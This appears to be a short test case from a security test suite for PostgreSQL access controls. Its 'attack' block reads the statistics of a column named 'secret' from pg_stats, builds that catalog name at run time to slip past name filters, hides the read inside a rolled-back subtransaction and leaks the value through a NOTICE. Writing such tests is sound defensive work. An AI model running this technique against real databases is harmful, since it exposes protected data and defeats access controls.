-- Reads statistics in a block that is rolled back, by a name that is put together at run time.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''vlt_account'' AND attname = ''secret''' INTO x;
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
